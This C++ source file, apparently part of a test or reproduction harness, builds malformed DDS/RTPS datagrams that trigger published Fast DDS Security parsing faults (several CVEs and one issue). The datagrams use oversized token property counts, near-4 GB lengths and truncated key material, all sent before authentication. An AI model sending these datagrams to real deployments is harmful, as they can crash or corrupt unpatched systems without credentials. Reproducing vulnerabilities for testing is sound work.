// Published faults of Fast DDS in what participants with DDS Security read before a peer is authenticated.
#include <algorithm>

#include "faults/Datagrams.h"

namespace Faults
{

using namespace RtpsBytes;

namespace
{

constexpr std::uint16_t IdentityToken = 0x1001;
constexpr std::uint16_t PermissionsToken = 0x1002;
constexpr std::uint16_t SecurityInfo = 0x1005;
constexpr EntityId SecureVolatileWriter = 0xff0202c3;

constexpr const char *IdentityClass = "DDS:Auth:PKI-DH:1.0";
constexpr const char *PermissionsClass = "DDS:Access:Permissions:1.0";
// Eight million: the vendor can allocate for so many of anything, and does.
constexpr std::uint32_t Countless = 0x800000;

// The content of an announcement of a participant with the two tokens that authentication begins with.
Bytes AnnouncedWith(const Bytes &identity, const Bytes &permissions, const GuidPrefix &sender = Sender)
{
    // The two through which participants authenticate each other.
    constexpr std::uint32_t AuthenticationEndpoints = 0x0fc00000;
    // Both sides must protect the same. Participants announce that in plain, so anybody can copy it.
    const Bytes tokens = Join({Parameter(IdentityToken, identity), Parameter(PermissionsToken, permissions),
                               Parameter(SecurityInfo, Join({U32(0x80000007), U32(0x80000006)}))});
    return Announced(BuiltinEndpoints | AuthenticationEndpoints, tokens, sender);
}

Bytes ParticipantWith(const Bytes &identity, const Bytes &permissions)
{
    return Message(Data, DataBody(1, AnnouncedWith(identity, permissions), ParticipantWriter), HasData);
}

Bytes Token(const char *kind, std::uint32_t properties = 0, std::uint32_t binaryProperties = 0)
{
    return Join({Text(kind), U32(properties), U32(binaryProperties)});
}

Bytes TokenWithValue(std::uint32_t size)
{
    return Join({Text(IdentityClass), U32(0), U32(1), Text("c.id"), U32(size), Bytes(8, 'x')});
}

// A message that is protected as a whole (9.5.2.3): a prefix, encrypted content that says how long it is, and
// a postfix with the common tag alone.
Bytes Protected(std::uint32_t length)
{
    constexpr std::uint8_t MessagePrefix = 0x33;
    constexpr std::uint8_t SecureBody = 0x30;
    constexpr std::uint8_t MessagePostfix = 0x34;
    const Bytes content =
        Join({{static_cast<std::uint8_t>(length >> 24), static_cast<std::uint8_t>(length >> 16),
               static_cast<std::uint8_t>(length >> 8), static_cast<std::uint8_t>(length)},
              Bytes(16, 'x')});
    return Join({Header(), Submessage(MessagePrefix, Bytes(20, 1)), Submessage(SecureBody, content),
                 Submessage(MessagePostfix, Bytes(20))});
}

// A message between participants: who it is from and for, its class, and its tokens.
Bytes Generic(const char *kind, const Bytes &tokens, EntityId writer)
{
    return Message(Data, DataBody(1, Join({{0, 1, 0, 0}, Bytes(96), Text(kind), tokens}), writer), HasData);
}

}  // namespace

Bytes AnnouncementWithTokens()
{
    return ParticipantWith(Token(IdentityClass), Token(PermissionsClass));
}

// The token says that it has eight million properties.
Bytes TokenOfCountlessProperties()
{
    return ParticipantWith(Token(IdentityClass, Countless), Token(PermissionsClass));
}

// The token says that it has eight million binary properties.
Bytes TokenOfCountlessBinaryProperties()
{
    return ParticipantWith(Token(IdentityClass), Token(PermissionsClass, 0, Countless));
}

// The value of the only binary property is nearly 4 GB long: rounded up to a multiple of 4, it is 0.
Bytes TokenWithAnEndlessValue()
{
    return ParticipantWith(TokenWithValue(0xfffffffd), Token(PermissionsClass));
}

// The value says that it is 512 MB long; 8 bytes follow.
Bytes TokenWithALongValue()
{
    return ParticipantWith(TokenWithValue(0x20000000), Token(PermissionsClass));
}

// The message says that it has eight million tokens.
Bytes HandshakeOfCountlessTokens()
{
    return Generic("dds.sec.auth", U32(Countless), HandshakeWriter);
}

// Key material of 3 bytes, whose fourth is read. Here it is in plain. A participant that was authenticated
// sends it encrypted, and no other participant can look into it.
Bytes ShortKeyMaterial()
{
    return Generic("dds.sec.participant_crypto_tokens",
                   Join({U32(1), Text("DDS:Crypto:AES_GCM_GMAC"), U32(0), U32(1), Text("dds.cryp.keymat"),
                         U32(3), Bytes(4, 'x')}),
                   SecureVolatileWriter);
}

// The name of the only binary property is nearly 4 GB long: rounded up to a multiple of 4, it is 0.
Bytes TokenWithAnEndlessName()
{
    return ParticipantWith(Join({Text(IdentityClass), U32(0), U32(1), U32(0xfffffffd), Bytes(8, 'x')}),
                           Token(PermissionsClass));
}

Bytes ProtectedMessage()
{
    return Protected(16);
}

// The encrypted content says that it is nearly 4 GB long. The vendor adds to that.
Bytes ProtectedMessageWithAnEndlessBody()
{
    return Protected(0xfffffffc);
}

Bytes NumberedParticipant(std::uint32_t number)
{
    GuidPrefix prefix = Sender;
    const Bytes digits = U32(number);
    std::copy(digits.begin(), digits.end(), prefix.begin() + 4);
    return Join({Header(prefix),
                 Submessage(Data,
                            DataBody(1, AnnouncedWith(Token(IdentityClass), Token(PermissionsClass), prefix),
                                     ParticipantWriter),
                            HasData)});
}

std::vector<Fault> FastDdsSecurityFaults()
{
    const auto of = [](const char *name, std::vector<Bytes> datagrams)
    { return Fault{.Name = name, .Vendor = "fastdds", .Keys = true, .Datagrams = std::move(datagrams)}; };
    return {
        of("CVE-2025-62599", {TokenOfCountlessProperties()}),
        of("CVE-2025-62600", {TokenOfCountlessBinaryProperties()}),
        of("CVE-2025-62602", {TokenWithAnEndlessValue()}),
        of("CVE-2025-64098", {TokenWithALongValue()}),
        of("CVE-2025-62603", {AnnouncementWithTokens(), HandshakeOfCountlessTokens()}),
        of("issue-6345", {AnnouncementWithTokens(), ShortKeyMaterial()}),
        of("CVE-2025-62601", {TokenWithAnEndlessName()}),
        of("CVE-2026-45098", {AnnouncementWithTokens(), ProtectedMessageWithAnEndlessBody()}),
    };
}

}  // namespace Faults
